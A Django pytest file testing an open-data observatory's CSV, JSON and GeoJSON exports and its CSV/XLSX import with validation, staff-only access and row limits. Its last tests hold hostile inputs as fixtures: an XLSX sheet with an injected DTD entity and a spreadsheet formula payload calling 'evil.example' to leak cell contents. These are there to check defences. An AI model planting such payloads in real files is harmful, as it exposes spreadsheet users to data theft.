"""Open data: streamed CSV, JSON and GeoJSON exports with their licence, the import from CSV
and XLSX (preview, per-row errors, all or nothing) and the export → import round trip."""

import csv
import datetime
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from terreau.directory.models import Organisation
from terreau.observatory import exports, imports
from terreau.observatory.models import Initiative, InitiativeLink, InitiativeRevision
from tests.factories import ThemeFactory
from tests.observatory.factories import (
    FacilitationFormatFactory,
    InitiativeFactory,
    TargetPublicFactory,
)
from tests.territories.factories import CommuneFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def catalogue():
    amiens = CommuneFactory(insee="80021", name="Amiens", latitude=49.89, longitude=2.29)
    organisation = Organisation.objects.create(
        name="Centre socio-culturel d'Etouvie", slug="centre-etouvie", kind="social_centre"
    )
    etouvie = InitiativeFactory(
        published=True,
        slug="assemblee-etouvie",
        title="Assemblée populaire d'Etouvie",
        summary="Les habitants d'Etouvie se réunissent en assemblée.",
        description="Une **assemblée** mensuelle ; des « guillemets », un retour\nà la ligne.",
        commune=amiens,
        scale="neighbourhood",
        status="active",
        phase="consolidation",
        participation_level="co_construction",
        start_date=datetime.date(2019, 3, 1),
        is_qpv=True,
        qpv_name="Etouvie",
        participant_count=120,
        has_trained_facilitators=True,
        lessons="Prendre le temps.",
        themes=[ThemeFactory(slug="pouvoir-dagir"), ThemeFactory(slug="centres-sociaux")],
        facilitation_formats=[FacilitationFormatFactory(slug="assemblee-populaire")],
        target_publics=[TargetPublicFactory(slug="habitants")],
    )
    etouvie.lead_organisations.set([organisation])
    InitiativeLink.objects.create(
        initiative=etouvie, title="Article", url="https://example.org/etouvie"
    )
    other = InitiativeFactory(
        published=True, slug="bw-friches", title="BW friches", commune=None, department=None
    )
    InitiativeFactory(slug="brouillon", title="Brouillon")
    return {"etouvie": etouvie, "other": other}


def read_csv(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


def test_the_csv_export_streams_the_published_catalogue_with_its_licence(client, catalogue):
    response = client.get(reverse("observatory:export_csv"))
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'rel="license"' in response["Link"]
    rows = read_csv(response)
    assert [row["slug"] for row in rows] == ["assemblee-etouvie", "bw-friches"]
    row = rows[0]
    assert row["general_issues"] == "centres-sociaux | pouvoir-dagir"
    assert row["primary_organizer"] == "centre-etouvie"
    assert row["city_insee"] == "80021"
    assert row["public_spectrum"] == "co_construction"
    assert row["is_priority_neighbourhood"] == "true"
    assert row["links"] == "Article <https://example.org/etouvie>"
    assert row["licence"] == exports.LICENCE
    assert list(rows[0]) == exports.COLUMN_NAMES


def test_exports_honour_the_filters(client, catalogue):
    rows = read_csv(client.get(reverse("observatory:export_csv") + "?q=assemblees"))
    assert [row["slug"] for row in rows] == ["assemblee-etouvie"]
    rows = read_csv(client.get(reverse("observatory:export_csv") + "?theme=nope&department=59"))
    assert len(rows) == 2 or all(row["province_insee"] == "59" for row in rows)


def test_the_json_export_states_its_licence(client, catalogue):
    response = client.get(reverse("observatory:export_json"))
    data = json.loads(b"".join(response.streaming_content))
    assert data["licence"] == exports.LICENCE
    assert data["licence_url"].startswith("https://")
    assert [item["slug"] for item in data["initiatives"]] == ["assemblee-etouvie", "bw-friches"]
    assert data["initiatives"][0]["general_issues"] == ["centres-sociaux", "pouvoir-dagir"]


def test_the_geojson_export_places_initiatives_at_their_commune(client, catalogue):
    response = client.get(reverse("observatory:export_geojson"))
    data = json.loads(b"".join(response.streaming_content))
    assert data["type"] == "FeatureCollection"
    assert data["licence"] == exports.LICENCE
    assert len(data["features"]) == 1
    feature = data["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [2.29, 49.89]}
    assert feature["properties"]["title"] == "Assemblée populaire d'Etouvie"


def test_the_export_runs_the_same_number_of_queries_with_few_and_many_rows(
    client, catalogue, django_assert_max_num_queries
):
    # one query per chunk of 500 rows and per many-valued field, whatever the row count
    with django_assert_max_num_queries(25) as few:
        rows = read_csv(client.get(reverse("observatory:export_csv")))
    assert len(rows) == 2
    for _index in range(30):
        InitiativeFactory(published=True, themes=[ThemeFactory()])
    with django_assert_max_num_queries(25) as many:
        rows = read_csv(client.get(reverse("observatory:export_csv")))
    assert len(rows) == 32
    assert len(few.captured_queries) == len(many.captured_queries)


def comparable(rows):
    # Dates of publication and completeness are computed by the revision service, not imported
    # (the factories here bypass it).
    computed = {"published_at", "updated_at", "completeness"}
    return [{key: value for key, value in row.items() if key not in computed} for row in rows]


def test_the_csv_export_reimports_unchanged(client, staff, catalogue):
    first = read_csv(client.get(reverse("observatory:export_csv")))
    content = b"".join(client.get(reverse("observatory:export_csv")).streaming_content)

    # Importing the export onto the same catalogue changes nothing.
    plan = imports.import_check(imports.import_read(io.BytesIO(content), "export.csv"))
    assert plan.is_valid
    assert [row.action for row in plan.rows] == ["unchanged", "unchanged"]
    revisions = InitiativeRevision.objects.count()
    assert imports.initiative_import(plan=plan, user=staff) == {
        "create": 0,
        "update": 0,
        "unchanged": 2,
    }
    assert InitiativeRevision.objects.count() == revisions

    # Into an empty catalogue, it recreates the same initiatives.
    Initiative.objects.all().delete()
    plan = imports.import_check(imports.import_read(io.BytesIO(content), "export.csv"))
    assert [row.action for row in plan.rows] == ["create", "create"]
    imports.initiative_import(plan=plan, user=staff)
    second = read_csv(client.get(reverse("observatory:export_csv")))
    assert comparable(second) == comparable(first)


def test_an_edited_export_updates_with_a_revision(client, staff, catalogue):
    rows = read_csv(client.get(reverse("observatory:export_csv")))
    rows[0]["title"] = "Assemblée populaire d'Etouvie (Amiens)"
    rows[0]["method_types"] = ""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=exports.COLUMN_NAMES, delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    plan = imports.import_check(
        imports.import_read(io.BytesIO(buffer.getvalue().encode()), "x.csv")
    )
    assert [row.action for row in plan.rows] == ["update", "unchanged"]
    imports.initiative_import(plan=plan, user=staff)
    etouvie = Initiative.objects.get(slug="assemblee-etouvie")
    assert etouvie.title == "Assemblée populaire d'Etouvie (Amiens)"
    assert not etouvie.facilitation_formats.exists()
    assert etouvie.revisions.get().author == staff


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


BAD_CSV = (
    "slug,title,brief_description,start_date,end_date,public_spectrum,general_issues,city_insee,"
    "number_of_participants\n"
    "bonne-ligne,Bonne ligne,Résumé,2020-01-01,,consultation,,80021,12\n"
    "Mauvais Slug,,Résumé,2020-13-01,2019-01-01,beaucoup,inconnu,99999,douze\n"
)


def test_the_preview_lists_each_error_with_its_row_and_column_and_imports_nothing(
    client, staff, catalogue
):
    client.force_login(staff)
    count = Initiative.objects.count()
    response = client.post(
        reverse("observatory:initiative_import"), {"file": upload("lot.csv", BAD_CSV.encode())}
    )
    assert response.status_code == 200
    plan = response.context["plan"]
    errors = {(row.number, column) for row in plan.invalid_rows for column, _message in row.errors}
    assert errors == {
        (3, "slug"),
        (3, "title"),
        (3, "start_date"),
        (3, "public_spectrum"),
        (3, "general_issues"),
        (3, "city_insee"),
        (3, "number_of_participants"),
    }
    body = response.content.decode()
    assert "Unknown identifiers: inconnu" in body or "Identifiants inconnus : inconnu" in body
    assert response.context["confirm_form"] is None
    assert Initiative.objects.count() == count


def test_staff_import_a_valid_file_after_the_preview(client, staff, catalogue):
    client.force_login(staff)
    good = BAD_CSV.split("\n")[0] + "\n" + BAD_CSV.split("\n")[1] + "\n"
    response = client.post(
        reverse("observatory:initiative_import"), {"file": upload("lot.csv", good.encode())}
    )
    assert response.context["plan"].is_valid
    token = response.context["confirm_form"].initial["token"]
    assert not Initiative.objects.filter(slug="bonne-ligne").exists()
    response = client.post(reverse("observatory:initiative_import_confirm"), {"token": token})
    assert response.status_code == 302
    initiative = Initiative.objects.get(slug="bonne-ligne")
    assert initiative.is_published
    assert initiative.participation_level == "consultation"
    assert initiative.department_id == initiative.commune.department_id
    # The stored file is used once.
    response = client.post(reverse("observatory:initiative_import_confirm"), {"token": token})
    assert response.status_code == 302
    assert Initiative.objects.filter(slug="bonne-ligne").count() == 1


def test_an_xlsx_file_is_read_like_the_csv(client, staff, catalogue):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["slug", "title", "brief_description", "start_date", "number_of_participants"])
    sheet.append(["tableur", "Depuis un tableur", "Résumé", datetime.date(2021, 4, 2), 30])
    buffer = io.BytesIO()
    workbook.save(buffer)
    plan = imports.import_check(imports.import_read(io.BytesIO(buffer.getvalue()), "x.xlsx"))
    assert plan.is_valid
    assert plan.rows[0].data["start_date"] == "2021-04-02"
    assert plan.rows[0].data["participant_count"] == 30


@pytest.mark.parametrize(
    "name,content",
    [
        ("lot.pdf", b"%PDF-1.4"),
        ("lot.xlsx", b"not a workbook"),
        ("lot.csv", "slug;title\né;è".encode("latin-1")),
        ("lot.csv", b"slug,title\nx,y\n"),
        ("lot.csv", b""),
    ],
)
def test_unreadable_files_are_refused_with_a_message(client, staff, name, content):
    client.force_login(staff)
    response = client.post(
        reverse("observatory:initiative_import"), {"file": upload(name, content)}
    )
    assert response.status_code == 200
    assert response.context["form"].errors["file"]


def test_only_staff_may_import(client, user, moderator):
    url = reverse("observatory:initiative_import")
    assert client.get(url).status_code == 302  # to the log-in page
    for person in (user, moderator):
        client.force_login(person)
        assert client.get(url).status_code == 403
        assert (
            client.post(
                reverse("observatory:initiative_import_confirm"), {"token": "x" * 30 + ".csv"}
            ).status_code
            == 403
        )


def test_the_open_data_page_links_every_format_with_the_current_filters(client, catalogue):
    response = client.get(reverse("observatory:open_data") + "?theme=pouvoir-dagir")
    body = response.content.decode()
    assert response.status_code == 200
    for name in ("export_csv", "export_json", "export_geojson"):
        assert f'href="{reverse(f"observatory:{name}")}?theme=pouvoir-dagir"' in body
    assert reverse("observatory:api:openapi-json") in body
    assert "Licence Ouverte" in body
    assert (
        'href="/observatoire/donnees/?theme=pouvoir-dagir"'
        in client.get(
            reverse("observatory:initiative_list") + "?theme=pouvoir-dagir"
        ).content.decode()
    )


def test_staff_find_the_import_from_the_list(client, staff, user):
    client.force_login(user)
    assert (
        reverse("observatory:initiative_import")
        not in client.get(reverse("observatory:initiative_list")).content.decode()
    )
    client.force_login(staff)
    assert (
        reverse("observatory:initiative_import")
        in client.get(reverse("observatory:initiative_list")).content.decode()
    )
    assert client.get(reverse("observatory:initiative_import")).status_code == 200


def _xlsx_with_dtd() -> bytes:
    """A workbook whose sheet declares a DTD (with a small entity), as a hostile file would."""
    import zipfile

    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["slug", "title", "brief_description"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as target:
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename == "xl/worksheets/sheet1.xml":
                data = b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">]>' + data
            target.writestr(entry, data)
    return output.getvalue()


def test_an_xlsx_whose_sheet_declares_a_dtd_is_refused_with_a_message(client, staff):
    client.force_login(staff)
    response = client.post(
        reverse("observatory:initiative_import"), {"file": upload("lot.xlsx", _xlsx_with_dtd())}
    )
    assert response.status_code == 200
    assert "DTD" in str(response.context["form"].errors["file"])


def test_an_import_over_the_row_limit_is_refused_before_any_check(client, staff, settings):
    from openpyxl import Workbook

    client.force_login(staff)
    lines = ["slug,title,brief_description"] + [
        f"ligne-{n},Ligne {n},Résumé" for n in range(imports.MAX_ROWS + 1)
    ]
    response = client.post(
        reverse("observatory:initiative_import"),
        {"file": upload("lot.csv", "\n".join(lines).encode())},
    )
    assert response.context["form"].errors["file"]
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(["slug", "title", "brief_description"])
    for n in range(imports.MAX_ROWS + 1):
        sheet.append([f"ligne-{n}", "Ligne", "Résumé"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = client.post(
        reverse("observatory:initiative_import"), {"file": upload("lot.xlsx", buffer.getvalue())}
    )
    assert response.context["form"].errors["file"]


def test_the_public_csv_neutralises_formulas_and_the_import_reads_them_back(
    client, staff, catalogue
):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
    Initiative.objects.filter(slug="assemblee-etouvie").update(
        title=hostile, summary="-1+2", lessons="@SUM(A1)"
    )
    response = client.get(reverse("observatory:export_csv"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(text))}
    row = rows["assemblee-etouvie"]
    assert row["title"] == "'" + hostile
    assert row["brief_description"] == "'-1+2"
    for value in (cell for line in rows.values() for cell in line.values()):
        assert value[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    plan = imports.import_check(imports.import_read(io.BytesIO(text.encode()), "export.csv"))
    by_slug = {result.slug: result for result in plan.rows}
    assert by_slug["assemblee-etouvie"].action == "unchanged", by_slug["assemblee-etouvie"].errors
